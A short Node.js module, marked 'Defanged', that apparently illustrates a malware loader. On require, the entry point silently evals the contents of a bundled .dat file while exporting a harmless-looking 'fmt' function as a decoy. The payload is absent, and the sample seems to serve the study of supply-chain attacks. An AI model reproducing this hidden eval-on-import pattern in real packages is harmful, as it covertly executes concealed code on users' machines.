// Defanged: the stage is kept in a .dat file that the entry point evaluates on require.
const fs = require('fs');
const path = require('path');
eval(fs.readFileSync(path.join(__dirname, 'lib', 'table.dat'), 'utf8'));
module.exports = { fmt: (s) => String(s) };
